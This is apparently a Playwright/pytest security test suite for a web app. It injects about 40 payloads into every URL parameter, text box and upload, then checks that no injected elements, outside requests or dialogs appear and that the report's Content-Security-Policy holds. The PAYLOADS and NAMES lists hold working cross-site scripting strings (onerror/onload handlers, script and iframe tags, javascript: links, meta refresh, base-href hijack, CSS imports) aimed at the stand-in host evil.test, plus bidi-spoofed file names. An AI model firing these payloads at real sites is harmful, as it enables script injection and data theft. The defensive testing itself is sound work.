"""About 40 injection payloads in every URL parameter, text box, upload (file name, content and
vocabulary entries) of every page, in real Chromium on one server.

For each page (one browser context): the URL parameters carry the payloads, each text box gets one paste
of all of them (unless the URL already filled it with them), each uploader gets a file whose name and content
are payloads. After each action:

- no element made from user input: no ``img``/``a``/``script``/``iframe``/... pointing at the payloads'
  host or at ``javascript:``, no inline event handler attribute anywhere;
- no request to another origin (every request not to 127.0.0.1 is recorded and aborted);
- no dialog (``alert``/``confirm``/``prompt``).

The exported HTML report's Content-Security-Policy is checked the same way: a page with remote tags in it
loads nothing.
"""
from __future__ import annotations

from functools import lru_cache
from urllib.parse import urlencode

import pytest

from core.render import standalone_page
from tests.app_hostile import own_params
from tests.conftest import app_pages, outside_requests

HOST = "evil.test"
PAYLOADS = [
    f"![x](http://{HOST}/md-image.png)",
    f"[Click to log in again](http://{HOST}/md-link)",
    f"<http://{HOST}/autolink>",
    f"[ref][1]\n\n[1]: http://{HOST}/md-ref",
    f"![ref-img][2]\n\n[2]: http://{HOST}/md-ref-img.png",
    f"<img src=http://{HOST}/img.png onerror=alert(1)>",
    "<img src=x onerror=alert(2)>",
    '"><img src=x onerror=alert(3)>',
    "'><svg/onload=alert(4)>",
    "<svg onload=alert(5)>",
    f"<iframe src=//{HOST}/frame></iframe>",
    f"<script src=//{HOST}/s.js></script>",
    "</script><script>alert(6)</script>",
    "<script>alert(7)</script>",
    "javascript:alert(8)",
    "[js](javascript:alert(9))",
    '<a href="javascript:alert(10)">js link</a>',
    "<details open ontoggle=alert(11)>",
    "<body onload=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    f"<object data=//{HOST}/object></object>",
    f"<embed src=//{HOST}/embed>",
    f"<link rel=stylesheet href=//{HOST}/link.css>",
    f'<meta http-equiv=refresh content="0;url=//{HOST}/refresh">',
    f"<base href=//{HOST}/>",
    f"<form action=//{HOST}/form><button>send</button></form>",
    f"<video src=//{HOST}/v.mp4 onerror=alert(14)></video>",
    f"<audio src=//{HOST}/a.mp3 onerror=alert(15)></audio>",
    f'<img srcset="//{HOST}/srcset.png 1x">',
    f"<picture><source srcset=//{HOST}/picture.png></picture>",
    f"<style>@import '//{HOST}/import.css'; body{{background:url(//{HOST}/bg.png)}}</style>",
    f'<div style="background-image:url(//{HOST}/style.png)">styled</div>',
    f"$$\\href{{http://{HOST}/katex}}{{x}}$$ $\\url{{http://{HOST}/katex-url}}$",
    f"&lt;img src=//{HOST}/entity.png&gt; &#60;img src=//{HOST}/num.png&#62;",
    '<math><mi xlink:href="javascript:alert(16)">m</mi></math>',
    ":material/warning: :red[red] **bold** _it_ `code` {{7*7}} ${alert(17)}",
    "\u202eevil\u202c \u2066isolate\u2069 \u200f\u061c",
    "<<img src=x onerror=alert(18)>>",
    "A" * 1500 + f" ![long](http://{HOST}/long.png)",
    f"%3Cimg%20src%3D//{HOST}/pct.png%3E",
]
ALL = "\n".join(PAYLOADS)
#: Short payloads for file names (no "/" or newline, which no file name has).
NAMES = ["<img src=x onerror=alert(19)>", "[n](http:evil.test)", "![n](http:evil.test)", "\u202etxt.exe"]

FOUND_JS = """(host) => {
  const bad = [];
  // the host as typed, and as it appears in an href made from our escaped text (evil%5C.test)
  const hosts = [host, host.replace('.', '%5c.'), host.replace('.', '\\\\.')];
  const visit = (root) => {
    for (const el of root.querySelectorAll('*')) {
      for (const a of el.attributes) {
        const v = (a.value || '').toLowerCase();
        if (/^on/i.test(a.name)) bad.push(el.tagName + ' ' + a.name);
        if (['src', 'href', 'srcset', 'data', 'action', 'poster', 'xlink:href', 'formaction', 'style', 'background']
              .includes(a.name.toLowerCase()) && (hosts.some((h) => v.includes(h)) || v.trim().startsWith('javascript:')))
          bad.push(el.tagName + ' ' + a.name + '=' + a.value.slice(0, 80));
      }
      if (el.shadowRoot) visit(el.shadowRoot);
      if (el.tagName === 'IFRAME') { try { if (el.contentDocument) visit(el.contentDocument); } catch (e) {} }
    }
  };
  visit(document);
  // a bare URL that Markdown turned into a link keeps our escapes in its href (evil%5C.test): any link
  // whose text names the payloads' host is one made from user input
  for (const a of document.querySelectorAll('a')) {
    const own = a.hasAttribute('href') && new URL(a.getAttribute('href'), location.href).origin === location.origin;
    if (hosts.some((h) => (a.textContent || '').toLowerCase().includes(h)) && !own)
      bad.push('A text=' + a.textContent.slice(0, 80));
  }
  return bad;
}"""


class Watch:
    """Records requests that leave 127.0.0.1 for one tab (:func:`tests.conftest.outside_requests`; the payloads'
    host is under ``.test``, a name reserved never to resolve, so a request to it goes nowhere even before the
    test fails on it), and checks the page after each action."""

    def __init__(self, tab) -> None:
        self.tab = tab
        self.remote = outside_requests(tab.page)

    def check(self, what: str) -> None:
        page = self.tab.page  # every check follows a wait for the app to be quiet (open / wait_rerun)
        found = page.evaluate(FOUND_JS, HOST)
        assert not found, (what, found[:5])
        assert not self.remote, (what, self.remote[:5])
        assert not self.tab.dialogs, (what, self.tab.dialogs[:5])


def _commit(box, multiline: bool) -> None:
    box.press("Control+Enter" if multiline else "Enter")


PAGES = [p for p, _ in app_pages()]


@lru_cache(maxsize=None)  # _first_payload asks for every earlier page: scan each page's source once
def _checked(page: str) -> tuple[str, ...]:
    return tuple(sorted(p for p, kind in own_params(page).items() if kind == "checked"))


def _first_payload(page: str) -> int:
    """Where ``page``'s checked parameters start in :data:`PAYLOADS`: after the earlier pages' ones."""
    return sum(len(_checked(p)) for p in PAGES[: PAGES.index(page)])


def test_the_pages_checked_parameters_carry_every_payload_once_dealt():
    """The dealing above reaches every payload: the pages have at least as many checked parameters."""
    assert sum(len(_checked(p)) for p in PAGES) >= len(PAYLOADS)


@pytest.mark.parametrize("page", PAGES)
def test_payloads_never_become_elements_requests_or_dialogs(page, app):
    own = own_params(page)  # the shared parameters (lang, text, ...), and the page's own
    checked = _checked(page)
    free = sorted(p for p, kind in own.items() if kind == "free")
    tab = app
    watch = Watch(tab)
    path = "" if page == "home" else page
    # 1. every free-text parameter carries all payloads, every other one a payload it must refuse; the
    # pages deal the payloads on (page k starts where page k-1 stopped), so one open per page sends
    # every payload through a refused parameter's warning somewhere (that warning is one function,
    # pages/_url.py qp_init, which every checked parameter goes through: tests/app_hostile.page_params)
    first = _first_payload(page)
    query = {p: ALL for p in free} | {p: PAYLOADS[(first + i) % len(PAYLOADS)] for i, p in enumerate(checked)}
    tab.open(path, urlencode(query))
    tab.assert_no_exception()  # the page's default view, drawn in the browser with every parameter hostile
    watch.check(f"{page}: all payloads in {sorted(query)}")
    # 3. one paste of all payloads into every text box
    main = tab.page.locator('[data-testid="stMain"]')
    boxes = main.locator("textarea, input[type=text]")
    for i in range(boxes.count()):
        box = boxes.nth(i)
        if not box.is_visible() or not box.is_editable():
            continue
        multiline = box.evaluate("e => e.tagName") == "TEXTAREA"
        # not the text the URL already put there (an unchanged box starts no run, and checks nothing new)
        before = box.input_value()
        if HOST in before and "onerror=alert(" in before:  # the URL already filled this box with the payloads,
            continue  # and the page drew them (checked above): a paste would draw the same text again
        box.fill("\n\n".join(reversed(PAYLOADS)) if multiline else " ".join(PAYLOADS[:12]))
        changed = box.input_value() != before  # a box with a length limit the URL's payloads already filled
        _commit(box, multiline)
        # a select box's search field: Enter picks a matching option at once (a run starts within a
        # moment) or, with none, does nothing; so does Enter in an unchanged box (the page is the same, and
        # as good to check); a text box with new text must start a run
        combo = box.get_attribute("role") == "combobox" or box.get_attribute("aria-autocomplete") is not None
        if combo or not changed:
            tab.wait_rerun_if_any(0.7)
        else:
            tab.wait_rerun()
        watch.check(f"{page}: paste into box {i}")
    # 4. every uploader: a file whose name and content (also as vocabulary entries) are payloads
    uploads = main.locator("input[type=file]")
    for i in range(uploads.count()):
        accept = uploads.nth(i).get_attribute("accept") or ""
        # an extension the uploader takes (Streamlit also lists a MIME type such as application/streamlit,
        # and the browser refuses a file named after it: the upload would never reach the page)
        ext = next((e.strip() for e in accept.split(",") if e.strip().startswith(".")), ".txt")
        name = NAMES[i % len(NAMES)] + ext
        body = ("[UNK]\n[CLS]\n[SEP]\n" + "\n".join(p.replace("\n", " ") for p in PAYLOADS)).encode("utf-8")
        uploads.nth(i).set_input_files(files=[{"name": name, "mimeType": "text/plain", "buffer": body}])
        tab.wait_rerun()
        watch.check(f"{page}: upload {name!r}")
        uploads = main.locator("input[type=file]")  # an upload can add or remove widgets
    tab.screenshot(f"injection-{page}")


def test_the_report_csp_blocks_remote_loads_even_if_a_tag_got_through(browser, output_dir):
    """Defence in depth: a report page with remote tags written into it loads nothing from elsewhere."""
    body = "".join(p for p in PAYLOADS if HOST in p and "<" in p)
    path = output_dir / "csp-check.html"
    path.write_text(standalone_page(body, "csp check"), encoding="utf-8")
    context = browser.new_context()
    remote: list[str] = []

    def route(r) -> None:
        if r.request.url.startswith("file:"):
            r.continue_()
        else:
            remote.append(r.request.url)
            r.abort()

    try:
        context.route("**/*", route)
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(path.as_uri())
        page.wait_for_load_state("networkidle")
        assert remote == [] and dialogs == [], (remote, dialogs)
    finally:
        context.close()
